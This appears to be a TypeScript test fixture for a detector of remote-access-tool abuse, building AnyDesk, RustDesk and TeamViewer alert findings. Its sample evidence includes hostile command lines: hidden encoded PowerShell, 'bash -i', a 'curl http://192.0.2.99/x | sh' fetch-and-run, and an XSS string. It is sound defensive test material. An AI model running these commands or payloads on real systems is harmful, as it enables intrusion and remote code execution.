// Builds valid Finding objects for sink tests: a full AnyDesk chain, a partial chain with a
// missing persistence step, and an approved tool that behaved anomalously. Each builder takes
// overrides so a test can say exactly what it changes.
import type { Evidence, Finding, FindingStep, StepId } from '../../src/model/finding.ts';
import { FINDING_SCHEMA } from '../../src/model/finding.ts';

const T0 = Date.UTC(2026, 10, 3, 9, 12, 3);
const MIN = 60_000;

function ev(time: number, summary: string, line: number, eventId: string, record?: string): Evidence {
  return {
    time,
    summary,
    src: {
      file: 'logs/ws-fin-07-sysmon.xml',
      format: 'event-xml',
      line,
      eventId,
      record: record ?? `${48200 + line}`,
    },
  };
}

function step(step: StepId, first: number, summary: string, link: string, evidence: Evidence[]): FindingStep {
  return {
    step,
    seen: true,
    first,
    last: evidence.length ? evidence[evidence.length - 1].time : first,
    count: evidence.length,
    summary,
    link,
    evidence,
  };
}

function missingStep(s: StepId, summary: string): FindingStep {
  return { step: s, seen: false, count: 0, summary, evidence: [] };
}

/** Four steps, in order, AnyDesk run from Downloads, an encoded PowerShell child: critical. */
export function fullChain(over: Partial<Finding> = {}): Finding {
  const exe = 'C:\\Users\\jdoe\\Downloads\\AnyDesk.exe';
  const installed = 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe';
  const child = 'powershell.exe -nop -w hidden -enc SQBFAFgA';
  return {
    schema: FINDING_SCHEMA,
    id: 'cdd89903f49a26b09d8ab3c5',
    revision: 0,
    title: 'AnyDesk on WS-FIN-07: 4-step remote-access chain',
    strategy: 'DET0496',
    analytic: 'AN1366',
    technique: { id: 'T1219', name: 'Remote Access Tools', tactic: 'TA0011' },
    status: 'alert',
    severity: 'critical',
    score: 100,
    confidence: 1,
    host: 'WS-FIN-07',
    platform: 'windows',
    user: 'CORP\\jdoe',
    agent: {
      key: 'image:\\users\\jdoe\\downloads\\anydesk.exe',
      images: [exe, installed],
      names: ['AnyDesk.exe'],
      hashes: [
        'sha256:9d2a7c41e5b3f6a8c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3',
        'md5:5e3f1c2b9a8d7e6f5a4b3c2d1e0f9a8b',
      ],
      originalFileName: 'AnyDesk.exe',
      product: 'AnyDesk',
      company: 'AnyDesk Software GmbH',
      tool: {
        id: 'anydesk',
        name: 'AnyDesk',
        category: 'remote_support',
        catalog: 'builtin',
        by: 'original_file_name',
      },
      links: ["image anydesk.exe was written by the agent's process"],
    },
    firstSeen: T0,
    lastSeen: T0 + 13 * MIN,
    stepCount: 4,
    inOrder: true,
    steps: [
      step('execution', T0, `${exe} started (parent explorer.exe) as CORP\\jdoe`, 'catalogue entry AnyDesk', [
        ev(T0, `${exe} started (parent explorer.exe) as CORP\\jdoe`, 1, '1'),
      ]),
      step(
        'persistence',
        T0 + 8_000,
        `service "AnyDesk" runs "${installed}" --service`,
        `the entry runs ${installed}`,
        [ev(T0 + 8_000, `service "AnyDesk" runs "${installed}" --service`, 3, '7045', '9120')],
      ),
      step(
        'egress',
        T0 + 12_000,
        'relay-7f3a91c2.net.anydesk.com 203.0.113.45:443: 5 connections within 15 min (>= 5)',
        'connections made by the agent process',
        [0, 1, 2, 3, 4].map((i) =>
          ev(
            T0 + 12_000 + i * 90_000,
            'anydesk.exe connected to relay-7f3a91c2.net.anydesk.com 203.0.113.45:443/tcp',
            6 + i,
            '3',
          ),
        ),
      ),
      step(
        'control',
        T0 + 13 * MIN,
        `anydesk.exe spawned powershell.exe: ${child} [suspicious]`,
        'child of the agent process',
        [ev(T0 + 13 * MIN, `anydesk.exe spawned powershell.exe: ${child} [suspicious]`, 13, '1')],
      ),
    ],
    missing: [],
    egress: [{ ip: '203.0.113.45', port: 443, name: 'relay-7f3a91c2.net.anydesk.com', connections: 5 }],
    reasons: [
      { code: 'steps', text: '4 of 4 steps inside one 15-minute window (S1, S2, S3, S4)', delta: 70 },
      {
        code: 'canonical_order',
        text: 'steps happened in the canonical order (start, persistence, egress, child)',
        delta: 5,
      },
      { code: 'temp_path', text: `runs from a user-writable or temporary path: ${exe}`, delta: 10 },
      { code: 'suspicious_child', text: `suspicious child command line: ${child}`, delta: 15 },
      { code: 'known_tool', text: 'catalogue names it AnyDesk (by original file name)', delta: 5 },
    ],
    summary:
      'AnyDesk ran from Downloads, installed a service, beaconed to its relay and spawned encoded PowerShell',
    ...over,
  };
}

/** Three steps on Linux: no persistence seen. High, not critical. */
export function partialChain(over: Partial<Finding> = {}): Finding {
  const T = T0 + 3_600_000;
  const exe = '/tmp/.x/rustdesk';
  return {
    ...fullChain(),
    id: 'a1b2c3d4e5f60718293a4b5c',
    title: 'RustDesk on web-02: 3-step remote-access chain',
    analytic: 'AN1367',
    platform: 'linux',
    host: 'web-02',
    user: 'www-data',
    severity: 'high',
    score: 70,
    confidence: 0.8,
    agent: {
      key: 'image:/tmp/.x/rustdesk',
      images: [exe],
      names: ['rustdesk'],
      hashes: [],
      tool: { id: 'rustdesk', name: 'RustDesk', catalog: 'builtin', by: 'executable' },
      links: [],
    },
    firstSeen: T,
    lastSeen: T + 4 * MIN,
    stepCount: 3,
    inOrder: true,
    steps: [
      step('execution', T, `${exe} started (parent bash) as www-data`, 'same process', [
        {
          time: T,
          summary: `${exe} started (parent bash) as www-data`,
          src: { file: 'audit/audit.log', format: 'auditd', line: 412, record: '8812', eventId: 'EXECVE' },
        },
      ]),
      missingStep(
        'persistence',
        'no systemd unit, cron entry or systemctl enable seen for this agent within 15 min',
      ),
      step(
        'egress',
        T + MIN,
        '198.51.100.7:21116: session of 240 s (>= 300 s not needed: 6 connections)',
        'connections made by the agent process',
        [
          {
            time: T + MIN,
            summary: 'rustdesk connected to 198.51.100.7:21116/tcp',
            src: { file: 'zeek/conn.log', format: 'zeek-tsv', line: 88 },
          },
        ],
      ),
      step('control', T + 4 * MIN, 'rustdesk spawned bash: bash -i', 'child of the agent process', [
        {
          time: T + 4 * MIN,
          summary: 'rustdesk spawned bash: bash -i',
          src: { file: 'audit/audit.log', format: 'auditd', line: 530, record: '8840', eventId: 'EXECVE' },
        },
      ]),
    ],
    missing: ['persistence'],
    egress: [
      {
        ip: '198.51.100.7',
        port: 21116,
        connections: 6,
        durationSec: 240,
        bytesOut: 9_000_000,
        bytesIn: 400_000,
      },
    ],
    reasons: [
      { code: 'steps', text: '3 of 4 steps inside one 15-minute window (S1, S3, S4)', delta: 50 },
      {
        code: 'canonical_order',
        text: 'steps happened in the canonical order (start, persistence, egress, child)',
        delta: 5,
      },
      { code: 'temp_path', text: `runs from a user-writable or temporary path: ${exe}`, delta: 10 },
      { code: 'known_tool', text: 'catalogue names it RustDesk (by executable)', delta: 5 },
    ],
    summary: 'RustDesk ran from /tmp, connected out and spawned an interactive shell; no persistence seen',
    ...over,
  };
}

/** An approved TeamViewer on macOS that spawned a shell and talked outside its vendor cloud. */
export function approvedButAnomalous(over: Partial<Finding> = {}): Finding {
  const T = T0 + 7_200_000;
  const exe = '/Applications/TeamViewer.app/Contents/MacOS/TeamViewer';
  const base = fullChain();
  return {
    ...base,
    id: 'ffee00112233445566778899',
    title: 'TeamViewer on mac-helpdesk-3: approved tool behaved anomalously',
    analytic: 'AN1368',
    platform: 'macos',
    host: 'mac-helpdesk-3',
    user: 'alice',
    status: 'alert',
    severity: 'medium',
    score: 55,
    confidence: 0.9,
    agent: {
      key: 'image:/applications/teamviewer.app/contents/macos/teamviewer',
      images: [exe],
      names: ['TeamViewer'],
      hashes: [],
      signer: 'TeamViewer Germany GmbH',
      tool: { id: 'teamviewer', name: 'TeamViewer', catalog: 'builtin', by: 'executable' },
      links: [],
      approvedBy: 'ProcessAllowlist[0] (tool teamviewer: help-desk tool, ticket 123)',
    },
    firstSeen: T,
    lastSeen: T + 6 * MIN,
    steps: [
      step('execution', T, `${exe} started (parent launchd) as alice`, 'same process', [
        {
          time: T,
          summary: `${exe} started (parent launchd) as alice`,
          src: { file: 'mac/eslogger.ndjson', format: 'eslogger', line: 3 },
        },
      ]),
      step(
        'persistence',
        T + MIN,
        'launchd plist com.teamviewer.service.plist created in /Library/LaunchDaemons',
        'written by the agent process',
        [
          {
            time: T + MIN,
            summary: 'plist created',
            src: { file: 'mac/eslogger.ndjson', format: 'eslogger', line: 7 },
          },
        ],
      ),
      step(
        'egress',
        T + 2 * MIN,
        '192.0.2.99:5938: 7 connections within 15 min (>= 5)',
        'connections made by the agent process',
        [
          {
            time: T + 2 * MIN,
            summary: 'TeamViewer connected to 192.0.2.99:5938',
            src: { file: 'mac/osquery.json', format: 'osquery', line: 12 },
          },
        ],
      ),
      step(
        'control',
        T + 6 * MIN,
        'TeamViewer spawned sh: sh -c "curl http://192.0.2.99/x | sh" [suspicious]',
        'child of the agent process',
        [
          {
            time: T + 6 * MIN,
            summary: 'TeamViewer spawned sh: sh -c "curl http://192.0.2.99/x | sh" [suspicious]',
            src: { file: 'mac/eslogger.ndjson', format: 'eslogger', line: 40 },
          },
        ],
      ),
    ],
    missing: [],
    egress: [{ ip: '192.0.2.99', port: 5938, connections: 7 }],
    reasons: [
      { code: 'steps', text: '4 of 4 steps inside one 15-minute window (S1, S2, S3, S4)', delta: 70 },
      {
        code: 'suspicious_child',
        text: 'suspicious child command line: sh -c "curl http://192.0.2.99/x | sh"',
        delta: 15,
      },
      { code: 'known_tool', text: 'catalogue names it TeamViewer (by executable)', delta: 5 },
      {
        code: 'approved_but_anomalous',
        text: 'approved by ProcessAllowlist[0] (tool teamviewer: help-desk tool, ticket 123), but behaved anomalously: spawned a suspicious child; talked to 192.0.2.99 outside ExternalIPAllowlist',
        delta: 0,
      },
      { code: 'support_host', text: 'mac-helpdesk-3 is a support host', delta: -35 },
    ],
    summary:
      'approved TeamViewer spawned a curl | sh child and talked to a destination outside its vendor cloud',
    ...over,
  };
}

/** A finding whose every text field carries a script-injection attempt (hostile logs). */
export const HOSTILE = '</script><img src=x onerror=alert(1)>';
